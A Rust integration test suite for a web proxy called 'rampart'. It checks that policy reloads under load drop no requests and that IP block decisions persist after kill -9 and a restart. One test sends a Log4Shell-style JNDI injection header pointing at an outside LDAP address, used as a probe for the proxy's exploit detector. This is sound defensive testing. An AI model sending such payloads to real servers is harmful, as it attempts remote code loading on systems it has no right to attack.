//! Reliability of the real `rampart proxy` binary on 127.0.0.1: policy reloads (file change,
//! SIGHUP, management API) under steady keep-alive load fail no request and take effect, and
//! decisions are still enforced after `kill -9` and a restart on the same SQLite store.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{self, Receiver};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

const TOKEN: &str = "reliability-test-token-0123456789";

fn rampart() -> Command {
    Command::new(env!("CARGO_BIN_EXE_rampart"))
}

/// An upstream answering every request with a small JSON body, until the test ends.
fn upstream() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                let _ = stream.set_read_timeout(Some(Duration::from_secs(30)));
                let _ = stream.set_nodelay(true);
                let mut reader = BufReader::new(stream.try_clone().unwrap());
                loop {
                    let mut line = String::new();
                    loop {
                        line.clear();
                        if reader.read_line(&mut line).unwrap_or(0) == 0 {
                            return;
                        }
                        if line == "\r\n" {
                            break;
                        }
                    }
                    let body = r#"{"status":"ok"}"#;
                    let resp = format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\n\r\n{body}",
                        body.len()
                    );
                    if stream.write_all(resp.as_bytes()).is_err() {
                        return;
                    }
                }
            });
        }
    });
    addr
}

/// A kept-alive HTTP/1.1 client connection.
struct Conn {
    writer: TcpStream,
    reader: BufReader<TcpStream>,
}

impl Conn {
    fn open(addr: SocketAddr) -> std::io::Result<Self> {
        let s = TcpStream::connect(addr)?;
        s.set_read_timeout(Some(Duration::from_secs(10)))?;
        s.set_nodelay(true)?;
        Ok(Self {
            reader: BufReader::new(s.try_clone()?),
            writer: s,
        })
    }

    /// One request; the status and the body.
    fn send(
        &mut self,
        method: &str,
        path: &str,
        headers: &str,
        body: &str,
    ) -> std::io::Result<(u16, String)> {
        // One write per request.
        let request = format!(
            "{method} {path} HTTP/1.1\r\nhost: shop.example\r\nuser-agent: reliability/1.0\r\n{headers}content-length: {}\r\n\r\n{body}",
            body.len()
        );
        self.writer.write_all(request.as_bytes())?;
        let mut line = String::new();
        self.reader.read_line(&mut line)?;
        let status = line
            .split_whitespace()
            .nth(1)
            .and_then(|c| c.parse().ok())
            .ok_or_else(|| std::io::Error::other(format!("no status line: {line:?}")))?;
        let mut len = 0usize;
        loop {
            line.clear();
            if self.reader.read_line(&mut line)? == 0 {
                return Err(std::io::Error::other("closed in the head"));
            }
            if line == "\r\n" {
                break;
            }
            let lower = line.to_ascii_lowercase();
            if let Some(v) = lower.strip_prefix("content-length:") {
                len = v.trim().parse().unwrap_or(0);
            }
        }
        let mut body = vec![0u8; len];
        self.reader.read_exact(&mut body)?;
        Ok((status, String::from_utf8_lossy(&body).into_owned()))
    }

    fn get(&mut self, path: &str, headers: &str) -> std::io::Result<(u16, String)> {
        self.send("GET", path, headers, "")
    }
}

/// One request on a fresh connection.
fn once(addr: SocketAddr, method: &str, path: &str, headers: &str, body: &str) -> (u16, String) {
    Conn::open(addr)
        .and_then(|mut c| {
            c.send(
                method,
                path,
                &format!("{headers}connection: close\r\n"),
                body,
            )
        })
        .unwrap_or_else(|e| panic!("{method} {path}: {e}"))
}

/// A call to the management API with the token.
fn api(addr: SocketAddr, method: &str, path: &str, body: &str) -> (u16, String) {
    once(
        addr,
        method,
        path,
        &format!("authorization: Bearer {TOKEN}\r\ncontent-type: application/json\r\n"),
        body,
    )
}

/// A running `rampart proxy`, killed when dropped.
struct Running {
    child: Child,
    proxy: SocketAddr,
    api: SocketAddr,
    lines: Receiver<String>,
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Running {
    /// The stderr lines printed so far (since the last call) that contain `part`.
    fn lines_with(&self, part: &str) -> Vec<String> {
        self.lines.try_iter().filter(|l| l.contains(part)).collect()
    }
}

// The child is handed to `Running`, which kills and waits for it when dropped.
#[allow(clippy::zombie_processes)]
fn start(config: &Path, db: &Path) -> Running {
    let mut child = rampart()
        .args(["proxy", "--config"])
        .arg(config)
        .arg("--db")
        .arg(db)
        .env_remove("RAMPART_DB")
        .stderr(Stdio::piped())
        .spawn()
        .expect("rampart proxy starts");
    let stderr = child.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    let deadline = Instant::now() + Duration::from_secs(30);
    let (mut proxy, mut api) = (None, None);
    while proxy.is_none() || api.is_none() {
        let line = rx
            .recv_timeout(deadline.saturating_duration_since(Instant::now()))
            .expect("the proxy says where it listens");
        if let Some(a) = line.strip_prefix("rampart: proxy listening on ") {
            proxy = Some(a.parse().unwrap());
        }
        if let Some(a) = line.strip_prefix("rampart: management API listening on ") {
            api = Some(a.parse().unwrap());
        }
    }
    Running {
        child,
        proxy: proxy.unwrap(),
        api: api.unwrap(),
        lines: rx,
    }
}

/// Writes `rampart.yaml` in `dir` for `upstream`; the policy is `policy.yaml` beside it.
fn write_config(dir: &Path, upstream: SocketAddr) -> PathBuf {
    let config = dir.join("rampart.yaml");
    std::fs::write(
        &config,
        format!(
            "policy: policy.yaml\nproxy:\n  listen:\n    - addr: 127.0.0.1:0\n  routes:\n    - path_prefix: /\n      upstream: app\n  upstreams:\n    app:\n      servers: [\"{upstream}\"]\n  trusted_proxies: [127.0.0.0/8]\napi:\n  listen: 127.0.0.1:0\n  token: {TOKEN}\n"
        ),
    )
    .unwrap();
    config
}

/// A policy blocking paths under `prefix` with 403.
fn blocking(prefix: &str) -> String {
    format!(
        "rules:\n  - name: block{}\n    when: {{ path_prefix: [{prefix}] }}\n    action: block\n    status: 403\n    body: \"blocked by policy\\n\"\n    mode: enforce\n",
        prefix.replace('/', "-")
    )
}

/// Polls `path` on fresh connections until it answers `want`; how long that took.
fn until_status(addr: SocketAddr, path: &str, want: u16, within: Duration) -> Duration {
    let started = Instant::now();
    loop {
        let (status, body) = once(addr, "GET", path, "", "");
        if status == want {
            return started.elapsed();
        }
        assert!(
            started.elapsed() < within,
            "{path} still answers {status} ({body:?}) after {within:?}, not {want}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn policy_reloads_under_load_fail_no_request() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), upstream());
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, "rules: []\n").unwrap();
    let proxy = start(&config, &dir.path().join("rampart.db"));
    let addr = proxy.proxy;

    // Steady load: client threads, each on one kept-alive connection, on a path no policy
    // here blocks. Every answer must be a 200 on that same connection.
    const CLIENTS: usize = 4;
    let stop = Arc::new(AtomicBool::new(false));
    let served = Arc::new(AtomicU64::new(0));
    let failures = Arc::new(Mutex::new(Vec::<String>::new()));
    let reconnects = Arc::new(AtomicU64::new(0));
    let mut clients = Vec::new();
    for c in 0..CLIENTS {
        let (stop, served, failures, reconnects) = (
            stop.clone(),
            served.clone(),
            failures.clone(),
            reconnects.clone(),
        );
        clients.push(std::thread::spawn(move || {
            let mut conn = Conn::open(addr).unwrap();
            let mut n = 0u64;
            while !stop.load(Ordering::Relaxed) {
                n += 1;
                match conn.get(&format!("/api/items/{}", c + 1), "") {
                    Ok((200, _)) => {
                        served.fetch_add(1, Ordering::Relaxed);
                    }
                    other => {
                        failures
                            .lock()
                            .unwrap()
                            .push(format!("client {c} request {n}: {other:?}"));
                        reconnects.fetch_add(1, Ordering::Relaxed);
                        match Conn::open(addr) {
                            Ok(c) => conn = c,
                            Err(_) => std::thread::sleep(Duration::from_millis(50)),
                        }
                    }
                }
            }
        }));
    }
    let started = Instant::now();
    std::thread::sleep(Duration::from_millis(300));

    let mut took = Vec::new();
    for round in 1..=2 {
        // The file changes: the watcher reloads it within its two-second check.
        let path = format!("/file{round}");
        assert_eq!(once(addr, "GET", &path, "", "").0, 200);
        std::fs::write(&policy, blocking(&path)).unwrap();
        let t = until_status(addr, &path, 403, Duration::from_secs(10));
        took.push(format!("file change {t:.2?}"));

        // SIGHUP: reloaded at once.
        let path = format!("/hup{round}");
        let next = dir.path().join("policy.next");
        std::fs::write(&next, blocking(&path)).unwrap();
        std::fs::rename(&next, &policy).unwrap();
        let sent = Instant::now();
        assert!(Command::new("kill")
            .args(["-HUP", &proxy.child.id().to_string()])
            .status()
            .unwrap()
            .success());
        until_status(addr, &path, 403, Duration::from_secs(10));
        took.push(format!("SIGHUP {:.2?}", sent.elapsed()));
        // The previous policy's block is gone with it.
        assert_eq!(once(addr, "GET", &format!("/file{round}"), "", "").0, 200);

        // The management API: in force when the call answers.
        let path = format!("/api{round}");
        std::fs::write(&next, blocking(&path)).unwrap();
        std::fs::rename(&next, &policy).unwrap();
        let (status, body) = api(proxy.api, "POST", "/api/v1/reload", "");
        assert_eq!(status, 200, "{body}");
        assert_eq!(once(addr, "GET", &path, "", "").0, 403);
        assert_eq!(once(addr, "GET", &format!("/hup{round}"), "", "").0, 200);

        // A policy with a problem is refused; the one in force stays.
        std::fs::write(&next, "rules:\n  - name: broken\n    action: explode\n").unwrap();
        std::fs::rename(&next, &policy).unwrap();
        let (status, body) = api(proxy.api, "POST", "/api/v1/reload", "");
        assert_eq!(status, 422, "{body}");
        assert_eq!(once(addr, "GET", &path, "", "").0, 403);
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(once(addr, "GET", &path, "", "").0, 403);
    }

    std::thread::sleep(Duration::from_millis(200));
    let reloaded = proxy.lines_with("policy reloaded").len();
    stop.store(true, Ordering::Relaxed);
    for c in clients {
        c.join().unwrap();
    }
    let elapsed = started.elapsed();
    let served = served.load(Ordering::Relaxed);
    let failures = failures.lock().unwrap().clone();
    println!(
        "reload under load: {served} requests served on {CLIENTS} kept-alive connections in \
         {elapsed:.2?} across 6 reloads (2 by file change, 2 by SIGHUP, 2 by the management \
         API, {reloaded} reloads logged) and 2 refused ones; {} failed, {} reconnects; time \
         to take effect: {}",
        failures.len(),
        reconnects.load(Ordering::Relaxed),
        took.join(", ")
    );
    assert!(failures.is_empty(), "failed requests: {failures:?}");
    assert!(served > 200, "only {served} requests were served");
    assert!(reloaded >= 6, "{reloaded} reloads logged");
}

/// `rampart decisions list --json` on `db`, one decision per line.
fn stored_decisions(db: &Path) -> String {
    let o = rampart()
        .args(["decisions", "list", "--json", "--db"])
        .arg(db)
        .env_remove("RAMPART_DB")
        .output()
        .expect("rampart runs");
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn from(ip: &str) -> String {
    format!("x-forwarded-for: {ip}\r\n")
}

#[test]
fn decisions_are_enforced_after_kill_9_and_a_restart() {
    let dir = tempfile::tempdir().unwrap();
    let config = write_config(dir.path(), upstream());
    std::fs::write(
        dir.path().join("policy.yaml"),
        "rules:\n  - name: block-probers\n    when: { detector: exploit_probes }\n    action: block\n    status: 403\n    body: \"denied by policy\\n\"\n    scope: ip\n    ttl: 1h\n    mode: enforce\n",
    )
    .unwrap();
    let db = dir.path().join("rampart.db");
    let mut proxy = start(&config, &db);
    let addr = proxy.proxy;
    const MANUAL: &str = "203.0.113.7";
    const PROBER: &str = "203.0.113.9";
    const BYSTANDER: &str = "203.0.113.5";

    // By hand, through the management API: in force and in the store when the call answers.
    let (status, body) = api(
        proxy.api,
        "POST",
        "/api/v1/decisions",
        &format!(
            r#"{{"action": "block", "scope": {{"ip": "{MANUAL}"}}, "ttl": "1h", "status": 451, "body": "blocked by hand\n", "reason": "reliability test"}}"#
        ),
    );
    assert_eq!(status, 201, "{body}");
    assert_eq!(
        once(addr, "GET", "/api/items/1", &from(MANUAL), ""),
        (451, "blocked by hand\n".into())
    );
    assert!(stored_decisions(&db).contains(MANUAL), "written at once");

    // Raised by the proxy: a probe's alert becomes a decision on its address.
    let (status, _) = once(
        addr,
        "GET",
        "/api/items",
        &format!(
            "{}x-api-version: ${{jndi:ldap://203.0.113.66:1389/a}}\r\n",
            from(PROBER)
        ),
        "",
    );
    assert_eq!(status, 403);
    let probed = Instant::now();
    let deadline = probed + Duration::from_secs(10);
    while once(addr, "GET", "/api/items/2", &from(PROBER), "").0 != 403 {
        assert!(Instant::now() < deadline, "the probe became no decision");
        std::thread::sleep(Duration::from_millis(50));
    }
    let enforced = Instant::now();
    let enforced_after = enforced - probed;
    // The proxy writes a decision it made on the tick that made it, not 5 s later.
    while !stored_decisions(&db).contains(PROBER) {
        assert!(
            enforced.elapsed() < Duration::from_secs(10),
            "the decision was not stored"
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let stored_after = enforced.elapsed();
    assert!(
        stored_after < Duration::from_secs(3),
        "stored {stored_after:?} after it was enforced"
    );
    assert_eq!(
        once(addr, "GET", "/api/items/3", &from(BYSTANDER), "").0,
        200
    );

    // kill -9: nothing is flushed on the way out.
    proxy.child.kill().unwrap();
    let killed = proxy.child.wait().unwrap();
    assert!(!killed.success());
    drop(proxy);

    let proxy = start(&config, &db);
    let addr = proxy.proxy;
    assert_eq!(
        once(addr, "GET", "/api/items/1", &from(MANUAL), ""),
        (451, "blocked by hand\n".into())
    );
    assert_eq!(
        once(addr, "GET", "/api/items/2", &from(PROBER), ""),
        (403, "denied by policy\n".into())
    );
    assert_eq!(
        once(addr, "GET", "/api/items/3", &from(BYSTANDER), "").0,
        200
    );
    let (status, listed) = api(proxy.api, "GET", "/api/v1/decisions", "");
    assert_eq!(status, 200);
    assert!(
        listed.contains(MANUAL) && listed.contains(PROBER),
        "{listed}"
    );
    println!(
        "kill -9: the API's decision was stored before its 201; the proxy's own one was enforced \
         {enforced_after:.2?} after the probe and in the store {stored_after:.2?} later; both \
         blocked after the restart"
    );
}
